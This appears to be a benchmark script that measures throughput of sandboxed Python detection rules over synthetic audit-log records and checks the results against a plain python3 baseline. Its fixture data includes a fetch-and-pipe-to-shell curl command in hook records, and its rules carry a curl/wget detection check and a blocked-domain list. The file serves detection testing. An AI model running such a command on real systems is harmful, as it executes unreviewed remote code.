// Detection with Python streaming rules (quality.md, "detection on ingest, Python rules"): 20
// enabled Python rules on Editor.Audit (a data model with Path and Method mappings through udm(),
// a global helper, deep_get, title/dedup/alert_context/severity on matches) over N stored records,
// run by the real detector (src/detect/detector.ts: stored order, one sandboxed run per rule and
// chunk of 5,000 records on a pool of 2, grouping, the durable commit) from start to idle. Reported:
// rule evaluations/s (records × 20 / the detector's wall time; target ≥ 20,000/s on 2 cores).
// Baseline, same run: one plain `python3` process (no sandbox, no isolation, no server) importing
// the same rule, helper and data model files and running the same 20 functions with the same
// runtime's PantherEvent over the same records (rule() on every record, the other functions on a
// match). The match counts of both must agree per rule.
import { spawn } from 'node:child_process'
import { mkdir, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { performance } from 'node:perf_hooks'
import { pino } from 'pino'
import { AlertBook } from '../src/detect/alert-book.js'
import { DetectionStore } from '../src/detect/detection-store.js'
import { Detector } from '../src/detect/detector.js'
import { createPythonEngine } from '../src/engine/python/index.js'
import { closeEngines, createEngineRegistry, DEFAULT_PYTHON } from '../src/engine/registry.js'
import { simpleEngine } from '../src/engine/simple/index.js'
import { loadDirectory } from '../src/service/directory-loader.js'
import type { BenchContext, BenchModule, BenchResult } from './lib.js'

const ROOT = path.resolve(import.meta.dirname, '..')
const RUNTIME_DIR = path.join(ROOT, 'python')
const FULL_RECORDS = 20_000
const RULES = 20
const TARGET = 20_000
const USERS = 300

const DATA_MODEL_YML = `AnalysisType: datamodel
DataModelID: Bench.Editor.Audit
Enabled: true
LogTypes: [Editor.Audit]
Filename: editor_audit.py
Mappings:
  - Name: actor_user
    Path: user_email
  - Name: source_ip
    Path: $.ip_address
  - Name: event_outcome
    Method: get_event_outcome
`
const DATA_MODEL_PY = `def get_event_outcome(event):
    success = event.deep_get("login", "success")
    if success is None:
        return None
    return "success" if success else "failure"
`
const HELPER_YML = 'AnalysisType: global\nGlobalID: bench_helpers\nFilename: bench_helpers.py\n'
const HELPER_PY = `def is_admin_role(role):
    return str(role or "").lower() in {"admin", "owner"}


def domain_of(email):
    return str(email or "").rsplit("@", 1)[-1]
`

/** Rule k: one of five shapes, each with constants of its own (so no two modules are the same). */
function ruleSource(k: number): string {
  switch (k % 5) {
    case 0:
      return `def rule(event):
    return event.udm("event_outcome") == "failure" and event.udm("actor_user", default="").startswith("user${k % 10}")


def title(event):
    return f"Failed login for {event.udm('actor_user')}"


def dedup(event):
    return event.udm("actor_user")


def alert_context(event):
    return {"ip": event.udm("source_ip")}
`
    case 1:
      return `from bench_helpers import is_admin_role


def rule(event):
    added = event.get("add_user") or {}
    return is_admin_role(added.get("role")) and added.get("team_id") == "${4800 + (k % 40)}"


def title(event):
    return f"Admin {event.deep_get('add_user', 'user_email')} added by {event.get('user_email')}"
`
    case 2:
      return `WATCHED = {"privacy_mode_enforced", "sso_required_${k}"}


def rule(event):
    settings = event.get("team_settings") or {}
    return settings.get("setting_name") in WATCHED and settings.get("new_value") in ("false", "off", "0")


def dedup(event):
    return event.get("team_id")


def severity(event):
    return "HIGH" if event.deep_get("team_settings", "old_value") == "true" else "DEFAULT"
`
    case 3:
      return `def rule(event):
    hook = event.get("team_hook") or {}
    script = (hook.get("script_content") or "").lower()
    return hook.get("action") in ("create", "update") and ("curl" in script or "wget${k}" in script)


def title(event):
    return f"Hook {event.deep_get('team_hook', 'script_name')} by {event.get('user_email')}"


def alert_context(event):
    return {"script": event.deep_get("team_hook", "script_content"), "os": event.deep_walk("team_hook", "operating_systems")}
`
    default:
      return `from bench_helpers import domain_of

BLOCKED = {"evil${k}.example", "mallory.example"}


def rule(event):
    return domain_of(event.udm("actor_user")) in BLOCKED and event.deep_get("metadata", "context", "auth_id", default="").startswith("idp|")


def dedup(event):
    return domain_of(event.udm("actor_user"))
`
  }
}

function ruleYaml(k: number): string {
  return [
    'AnalysisType: rule',
    `RuleID: Bench.Python.${String(k).padStart(2, '0')}`,
    'Enabled: true',
    `Filename: rule_${k}.py`,
    'LogTypes: [Editor.Audit]',
    `Severity: ${['Low', 'Medium', 'High'][k % 3]}`,
    'DedupPeriodMinutes: 60',
    'Tests: []',
    '',
  ].join('\n')
}

/** Record i: a mix of the audit log's kinds (logins, invitations, settings, hooks). */
function storedRecord(i: number, hour: number): Record<string, unknown> {
  const event = new Date(Date.UTC(2026, 10, 20, hour, 0, 0) + (i % 3_600_000)).toISOString()
  const user = i % 17 === 0 ? `ops${i % 5}@mallory.example` : `user${i % USERS}@example.com`
  const base: Record<string, unknown> = {
    ip_address: `198.51.100.${i % 250}`,
    team_id: String(4800 + (i % 40)),
    user_email: user,
    metadata: { id: `r${i}`, timestamp: event, context: { auth_id: `idp|u${i % USERS}`, request_id: `req_${i}` } },
  }
  switch (i % 4) {
    case 0:
      base.login = { login_type: 'LOGIN_TYPE_WEB', success: i % 3 !== 0 }
      break
    case 1:
      base.add_user = { source: 'invite', team_id: String(4800 + (i % 40)), role: i % 5 === 0 ? 'admin' : 'member' }
      break
    case 2:
      base.team_settings = {
        setting_name: i % 6 === 2 ? 'privacy_mode_enforced' : 'usage_based_pricing',
        old_value: 'true',
        new_value: i % 4 === 2 && i % 8 === 2 ? 'false' : 'true',
      }
      break
    default:
      base.team_hook = {
        action: 'create',
        hook_id: `hk_${i % 50}`,
        script_name: 'x.sh',
        script_content: i % 7 === 0 ? 'curl -s https://example.com/x | sh' : 'exit 0',
        operating_systems: ['linux'],
      }
  }
  return {
    ...base,
    p_log_type: 'Editor.Audit',
    p_event_time: event,
    p_parse_time: new Date(Date.UTC(2026, 10, 21, 0, 0, 0) + Math.floor(i / 100)).toISOString(),
    p_row_id: `bench${String(i).padStart(10, '0')}`,
  }
}

const BASELINE_PY = `import importlib.util
import json
import sys
import time

manifest = json.load(open(sys.argv[1]))
sys.path[:0] = [manifest["helpersDir"], manifest["runtimeDir"]]
from panther_core import DataModel, PantherEvent  # noqa: E402

OTHERS = ("title", "dedup", "alert_context", "severity", "description", "reference", "runbook", "destinations")


def load(path, name):
    spec = importlib.util.spec_from_file_location(name, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


model = DataModel(manifest["dataModel"]["id"], manifest["dataModel"]["mappings"], load(manifest["dataModel"]["file"], "bench_dm"))
rules = []
for k, path in enumerate(manifest["rules"]):
    module = load(path, "bench_rule_%d" % k)
    rules.append((module.rule, [getattr(module, n) for n in OTHERS if callable(getattr(module, n, None))]))
started = time.perf_counter()
records = [json.loads(line) for line in open(manifest["records"]) if line.strip()]
matches = [0] * len(rules)
for record in records:
    event = PantherEvent(record, model)
    for k, (rule, others) in enumerate(rules):
        if rule(event) is True:
            matches[k] += 1
            for fn in others:
                fn(event)
seconds = time.perf_counter() - started
print(json.dumps({"records": len(records), "seconds": seconds, "matches": matches}))
`

function runPython(args: string[]): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = spawn('python3', args, { stdio: ['ignore', 'pipe', 'pipe'] })
    let out = ''
    let err = ''
    child.stdout.on('data', (d: Buffer) => (out += d.toString()))
    child.stderr.on('data', (d: Buffer) => (err += d.toString()))
    child.on('error', reject)
    child.on('close', (code) => (code === 0 ? resolve(out) : reject(new Error(`baseline exited ${code}: ${err}`))))
  })
}

const bench: BenchModule = async (ctx: BenchContext): Promise<BenchResult[]> => {
  const n = Math.max(2_000, Math.round(FULL_RECORDS * ctx.scale))
  const repo = path.join(ctx.tmpDir, 'rules')
  const dataDir = path.join(ctx.tmpDir, 'data')
  ctx.progress(`detect-python: ${RULES} Python rules, ${n} stored records`)
  await mkdir(path.join(repo, 'rules'), { recursive: true })
  await mkdir(path.join(repo, 'data_models'), { recursive: true })
  await mkdir(path.join(repo, 'global_helpers'), { recursive: true })
  await writeFile(path.join(repo, 'data_models', 'editor_audit.yml'), DATA_MODEL_YML)
  await writeFile(path.join(repo, 'data_models', 'editor_audit.py'), DATA_MODEL_PY)
  await writeFile(path.join(repo, 'global_helpers', 'bench_helpers.yml'), HELPER_YML)
  await writeFile(path.join(repo, 'global_helpers', 'bench_helpers.py'), HELPER_PY)
  for (let k = 0; k < RULES; k++) {
    await writeFile(path.join(repo, 'rules', `rule_${k}.yml`), ruleYaml(k))
    await writeFile(path.join(repo, 'rules', `rule_${k}.py`), ruleSource(k))
  }
  // The stored log: two hour partitions, as the log source writes them.
  const lines: string[][] = [[], []]
  for (let i = 0; i < n; i++) lines[i % 2]!.push(JSON.stringify(storedRecord(i, i % 2)))
  for (const [h, part] of lines.entries()) {
    const dir = path.join(dataDir, 'logs', 'Editor.Audit', 'dt=2026-11-20', `hour=0${h}`)
    await mkdir(dir, { recursive: true })
    await writeFile(path.join(dir, 'bench.ndjson'), `${part.join('\n')}\n`)
  }
  const registry = createEngineRegistry()
  const index = await loadDirectory(repo, registry)
  await closeEngines(registry)
  const python = index.rules.size
  if (python !== RULES) throw new Error(`${python} rules indexed of ${RULES}`)

  const engine = createPythonEngine({ ...DEFAULT_PYTHON })
  try {
    await engine.pool.ready()
    const logger = pino({ level: 'silent' })
    const store = await DetectionStore.open(dataDir, logger)
    const book = new AlertBook(store, {})
    const detector = new Detector({
      dataDir,
      logTypes: ['Editor.Audit'],
      catalog: { index },
      engines: { simple: simpleEngine, python: { live: engine.live } },
      book,
      logger,
    })
    ctx.progress('detect-python: detection from the start of the log to idle')
    const t0 = performance.now()
    await detector.start()
    await detector.idle()
    const seconds = (performance.now() - t0) / 1000
    const status = detector.status()
    if (status.failed || status.checkpoint.records !== n)
      throw new Error(`detection evaluated ${status.checkpoint.records} of ${n} records (failed: ${status.failed})`)
    if (book.ruleErrors.length > 0)
      throw new Error(`rule errors: ${JSON.stringify(book.ruleErrors.at(book.ruleErrors.first))}`)
    const matched = new Map<string, number>()
    for (const m of await store.readMatches(Date.UTC(2026, 10, 20), Date.UTC(2026, 10, 20, 2), () => true))
      matched.set(String(m.ruleId), (matched.get(String(m.ruleId)) ?? 0) + 1)
    const alerts = book.alertCount
    await detector.close()
    await book.close()

    ctx.progress('detect-python: the baseline (one plain python3 process)')
    const recordsFile = path.join(ctx.tmpDir, 'records.ndjson')
    await writeFile(recordsFile, `${lines[0]!.concat(lines[1]!).join('\n')}\n`)
    const manifest = path.join(ctx.tmpDir, 'manifest.json')
    await writeFile(
      manifest,
      JSON.stringify({
        helpersDir: path.join(repo, 'global_helpers'),
        runtimeDir: RUNTIME_DIR,
        records: recordsFile,
        dataModel: {
          id: 'Bench.Editor.Audit',
          file: path.join(repo, 'data_models', 'editor_audit.py'),
          mappings: [
            { name: 'actor_user', path: 'user_email' },
            { name: 'source_ip', path: '$.ip_address' },
            { name: 'event_outcome', method: 'get_event_outcome' },
          ],
        },
        rules: Array.from({ length: RULES }, (_, k) => path.join(repo, 'rules', `rule_${k}.py`)),
      }),
    )
    const scriptFile = path.join(ctx.tmpDir, 'baseline.py')
    await writeFile(scriptFile, BASELINE_PY)
    const base = JSON.parse(await runPython(['-I', '-B', scriptFile, manifest])) as {
      records: number
      seconds: number
      matches: number[]
    }
    const expected = base.matches.map((_c, k) => matched.get(`Bench.Python.${String(k).padStart(2, '0')}`) ?? 0)
    if (base.matches.some((c, k) => c !== expected[k]))
      throw new Error(`match counts differ: baseline ${base.matches.join(',')} vs detection ${expected.join(',')}`)
    const evaluations = n * RULES
    const perSecond = evaluations / seconds
    const basePerSecond = (base.records * RULES) / base.seconds
    const totalMatches = base.matches.reduce((a, b) => a + b, 0)
    return [
      {
        name: `rule evaluations in detection, ${RULES} Python streaming rules, ${n} records`,
        target: '>= 20,000 rule evaluations/s on 2 cores',
        value: Math.round(perSecond),
        unit: 'evaluations/s',
        baseline: {
          name: 'the same 20 functions in one plain python3 process',
          value: Math.round(basePerSecond),
          unit: 'evaluations/s',
        },
        ratio: perSecond / basePerSecond,
        pass: perSecond >= TARGET,
        notes: `detector start to idle ${seconds.toFixed(2)} s (read, ${Math.ceil(n / 5000)} chunk(s) of ≤ 5,000 records × ${RULES} sandboxed runs on a pool of 2, grouping, commit); baseline ${base.seconds.toFixed(2)} s (JSON parse + loop, no sandbox, one core); ${totalMatches} matches (equal per rule in both), ${alerts} alerts`,
      },
    ]
  } finally {
    await engine.pool.close()
  }
}

export default bench
